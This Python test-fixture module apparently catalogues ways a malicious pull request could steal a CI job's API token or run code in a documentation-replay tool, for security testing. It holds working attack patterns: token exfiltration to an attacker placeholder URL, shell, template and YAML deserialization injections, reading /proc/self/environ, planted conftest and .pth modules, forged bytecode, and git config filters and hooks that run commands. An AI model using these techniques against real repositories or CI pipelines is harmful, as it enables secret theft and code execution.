"""Ways in which a pull request tries to take the token of a job, or to run code in it.

Each changes the tree of a project whose base revision has a service and a token for it. In its
texts, `@TRAP@` is the URL of a service of the attacker, `@HOST@` its host, `@EVIL@` Python code
that leaves a mark, `@MARK@` the path of the mark, and `@OUTSIDE@` a folder outside of the project.
"""

import py_compile
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

from tests.safety.attacks_by_files import MORE, forged_manifest
from tests.safety.attacks_by_stories import STORIES
from tests.safety.conftest import page

PAGE = "docs_source/en-us/evil.md"
TOKEN = "API_TOKEN"
YAML = "!!python/object/apply:os.system ['touch @MARK@']"


class Attack(NamedTuple):
    """A change of the tree, and the commands that it aims at."""

    files: Mapping[str, str] = {}
    links: Mapping[str, str] = {}
    change: Callable[[Path], None] = lambda _: None
    commands: tuple[str, ...] = ("test",)


def bare_repository(folder: Path) -> None:
    """Make a folder look like a bare repository whose configuration runs a program."""
    root = next(place for place in (folder, *folder.parents) if (place / "mark.txt").exists())
    program = f"touch {(root / 'mark.txt').read_text(encoding='utf-8')};"
    for name in ("objects", "refs", "hooks"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    (folder / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (folder / "config").write_text(
        f"[core]\nrepositoryformatversion = 0\nbare = false\nworktree = {root}\n"
        f'fsmonitor = "{program}"\nhooksPath = hooks\n'
        f'[filter "evil"]\nclean = "{program}"\nsmudge = "{program}"\nrequired = true\n'
        f'[diff "evil"]\ntextconv = "{program}"\ncommand = "{program}"\n',
        encoding="utf-8",
    )
    for name in ("post-checkout", "post-index-change", "reference-transaction"):
        hook = folder / "hooks" / name
        hook.write_text(f"#!/bin/sh\n{program}\n", encoding="utf-8")
        hook.chmod(0o755)


def bytecode(root: Path) -> None:
    """Plant compiled code for a generated module, with time and size of its source."""
    for source in sorted((root / "generated_tests").rglob("test_*.py")):
        status = source.stat()
        folder = source.parent / "__pycache__"
        folder.mkdir(exist_ok=True)
        planted = folder / f"{source.stem}.{sys.implementation.cache_tag}.pyc"
        py_compile.compile(str(root / "evil.py"), cfile=str(planted), doraise=True)
        stamp = int(status.st_mtime).to_bytes(4, "little") + status.st_size.to_bytes(4, "little")
        data = planted.read_bytes()
        planted.write_bytes(data[:8] + stamp + data[16:])


def forged_module(root: Path) -> None:
    """Add code to each generated module, and correct its digest in the manifest."""
    evil = (root / "evil.py").read_text(encoding="utf-8")
    for source in sorted((root / "generated_tests").rglob("test_*.py")):
        source.write_text(source.read_text(encoding="utf-8") + evil, encoding="utf-8")


def _page(request: str, response: str = "HTTP/1.1 200 OK") -> Attack:
    return Attack({PAGE: page(request, response)})


def _configured(settings: str, request: str = "GET @TRAP@/x") -> Attack:
    return Attack({"docreplay.toml": settings, PAGE: page(request)})


def _pyproject(settings: str, request: str = "GET @TRAP@/x") -> Attack:
    def change(root: Path) -> None:
        (root / "docreplay.toml").unlink()

    return Attack({"pyproject.toml": settings, PAGE: page(request)}, change=change)


CONFIGURATIONS = {
    "base URL": _configured('base-url = "@TRAP@"\nheaders = { A = "$env:API_TOKEN" }'),
    "allowed host": _configured('base-url = "@TRAP@"\nallow-hosts = ["@HOST@"]'),
    "documented host": _configured('documented-hosts = ["@HOST@"]\nallow-hosts = ["@HOST@"]'),
    "variable as a header": _configured(
        'allow-hosts = ["@HOST@"]\nheaders = { X = "$env:API_TOKEN" }'
    ),
    "variable as a value": _configured(
        'allow-hosts = ["@HOST@"]\nparameters = { x = "$env:API_TOKEN" }', "GET @TRAP@/{x}"
    ),
    "command as a value": _configured('parameters = { x = "$cmd:touch @MARK@" }', "GET /{x}"),
    "command as a header": _configured('headers = { X = "$cmd:touch @MARK@" }'),
    "methods": _configured("unsafe-methods = true", "DELETE /all"),
    "other file": _pyproject('[tool.docreplay]\nbase-url = "@TRAP@"\nallow-hosts = ["@HOST@"]'),
    "output": _configured('output = "@OUTSIDE@/tests"'),
    "output above": _configured('output = "../outside/tests"'),
    "baseline": Attack(
        {"docreplay.toml": 'baseline = "../outside/b.jsonl"'}, commands=("check --baseline-update",)
    ),
    "source repository": Attack(
        {"docreplay.toml": 'source-repo = "bare"'},
        change=lambda root: bare_repository(root / "bare"),
        commands=("drift", "check --changed-since HEAD"),
    ),
    "regular expression": _configured(
        '[compare.paths]\n"$.a" = { regex = "(?#@EVIL@)x" }', "GET /x"
    ),
}  # fmt: skip
REQUESTS = {
    "absolute URL": _page("GET @TRAP@/x"),
    "host header": _page("GET /x\nHost: @HOST@"),
    "URL without a scheme": _page("GET //@HOST@/x"),
    "user in a URL": _page("GET http://api.example.com@@HOST@/x"),
    "fragment in a host": _page("GET @TRAP@#@api.example.com/x"),
    "backslash": _page("GET http:\\\\@HOST@/x"),
    "placeholder as a host": _page("GET http://{host}/x"),
    "token as a placeholder": _page("GET @TRAP@/{API_TOKEN}/{token}"),
    "variable in a header": _page("GET @TRAP@/x\nX-A: $env:API_TOKEN"),
    "variable in a body": _page("POST @TRAP@/x\n\n$env:API_TOKEN ${API_TOKEN} {API_TOKEN}"),
    "command in a target": _page("GET /$cmd:touch%20@MARK@"),
    "command in a header": _page("GET /x\nX-A: $cmd:touch @MARK@\nX-B: `touch @MARK@`"),
    "shell": _page("GET /$(touch @MARK@);touch @MARK@\nX-A: '; touch @MARK@; '"),
    "path above": _page("GET /../../..//@HOST@/x"),
    "line end in a target": _page("GET /x%0d%0aHost:%20@HOST@%0d%0a"),
    "method override": _page("GET /x?_method=DELETE\nX-HTTP-Method-Override: DELETE"),
    "forwarded host": _page("GET /x\nX-Forwarded-Host: @HOST@\nForwarded: host=@HOST@"),
    "proxy": _page("GET /x\nProxy-Authorization: a\nProxy-Connection: @HOST@"),
    "connect": _page("CONNECT @HOST@"),
    "trace": _page("TRACE /x"),
    "redirect": _page("GET /redirect", "HTTP/1.1 302 Found\nLocation: @TRAP@/x"),
    "curl": _page("curl -x @TRAP@ -o @MARK@ --config @MARK@ @TRAP@/x"),
    "body from a file": _page("POST @TRAP@/x\n\n@/proc/self/environ"),
}
TEXTS = {
    "code in a name": Attack({PAGE: page("GET /x", name='a")\n@EVIL@\n(\\"')}),
    "code in a target": _page('GET /x"""\n@EVIL@\n"""'),
    "code in a body": _page(
        "GET /x", "HTTP/1.1 200 OK\nContent-Type: application/json\n\n{\"a\": '''\n@EVIL@\n'''}"
    ),
    "code in a file name": Attack({"docs_source/en-us/a';@MARKER@;'.md": page("GET /x")}),
    "option as a file name": Attack({"docs_source/en-us/--rootdir=..": "", "-p evil.md": "x"}),
    "template": Attack(
        {PAGE: "# {{ cycler.__init__.__globals__.os.system('touch @MARK@') }}\n" + page("GET /x")},
        commands=("check --report html=out.html", "test --report html=out.html"),
    ),
    "YAML": Attack(
        {
            PAGE: f"---\na: {YAML}\n---\n{page('GET /x')}",
            "docs_source/en-us/toc.yml": f"- {YAML}\n",
        },
        commands=("check", "drift"),
    ),
    "included secret": Attack({PAGE: "[!INCLUDE [a](../../../outside/secret.md)]\n"}),
    "linked page": Attack(links={PAGE: "@OUTSIDE@/secret.md"}, commands=("check", "extract")),
    "linked folder": Attack(links={"docs_source/de-de": "@OUTSIDE@"}, commands=("check", "drift")),
    "linked output": Attack(links={"generated_tests": "@OUTSIDE@"}, commands=("generate", "test")),
    "linked report": Attack(
        links={"out.json": "@OUTSIDE@/new"}, commands=("check --report json=out.json",)
    ),
}  # fmt: skip
ADDOPTS = "-p evil"
CODE = {
    **{
        f"module {name}": Attack({f"{name}.py": "@EVIL@"})
        for name in ("conftest", "__init__", "sitecustomize", "usercustomize", "json", "requests")
    },
    "conftest with consent": Attack(
        {"docreplay.toml": "conftest = true", "conftest.py": "@EVIL@"},
        commands=("test", "test -n 2", "test --safe"),
    ),
    "tests": Attack({"generated_tests/test_evil.py": "@EVIL@", "test_evil.py": "@EVIL@"}),
    "conftest of the tests": Attack({"generated_tests/conftest.py": "@EVIL@"}),
    "package of the tests": Attack({"generated_tests/en_us/__init__.py": "@EVIL@"}),
    "pytest.ini": Attack({"pytest.ini": f"[pytest]\naddopts = {ADDOPTS}", "evil.py": "@EVIL@"}),
    "pyproject.toml": Attack(
        {"pyproject.toml": f'[tool.pytest.ini_options]\naddopts = "{ADDOPTS}"', "evil.py": "@EVIL@"}
    ),
    "pytest of pyproject.toml": Attack(
        {"pyproject.toml": '[tool.pytest]\naddopts = ["-p", "evil"]', "evil.py": "@EVIL@"}
    ),
    "tox.ini": Attack({"tox.ini": f"[pytest]\naddopts = {ADDOPTS}", "evil.py": "@EVIL@"}),
    "setup.cfg": Attack({"setup.cfg": f"[tool:pytest]\naddopts = {ADDOPTS}", "evil.py": "@EVIL@"}),
    "entry point": Attack(
        {
            "evil-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1\n",
            "evil-1.dist-info/entry_points.txt": "[pytest11]\nevil = evil\n"
            "[docreplay.comparators]\nevil = evil\n[docreplay.rules]\nevil = evil\n",
            "evil.py": "@EVIL@",
        },
        commands=("test", "check", "drift"),
    ),
    "path file": Attack({"evil.pth": "import evil", "evil.py": "@EVIL@"}),
    "virtual environment": Attack({"pyvenv.cfg": "home = .", "sitecustomize.py": "@EVIL@"}),
    "bytecode": Attack({"evil.py": "@EVIL@"}, change=bytecode),
    "forged module": Attack({"evil.py": "@EVIL@"}, change=forged_module),
    "git filter": Attack(
        {".gitattributes": "* filter=evil diff=evil\n", PAGE: page("GET /x")},
        change=bare_repository,
        commands=("check --changed-since HEAD", "drift", "drift --changed-since HEAD"),
    ),
    "git folder in the docs": Attack(
        {"docs_source/.gitattributes": "* filter=evil diff=evil\n", PAGE: page("GET /x")},
        change=lambda root: bare_repository(root / "docs_source"),
        commands=("check --root docs_source --changed-since HEAD", "drift --root docs_source"),
    ),
}  # fmt: skip
ATTACKS: Mapping[str, Attack] = {
    **{f"configuration: {name}": attack for name, attack in CONFIGURATIONS.items()},
    **{f"request: {name}": attack for name, attack in REQUESTS.items()},
    **{f"text: {name}": attack for name, attack in TEXTS.items()},
    **{f"code: {name}": attack for name, attack in CODE.items()},
    **{name: Attack(files, links, commands=names) for name, (files, links, names) in MORE.items()},
    **{f"story: {name}": Attack(files) for name, files in STORIES.items()},
    "file: forged manifest": Attack(
        {PAGE: page("GET /x")}, change=forged_manifest, commands=("generate", "test")
    ),
}
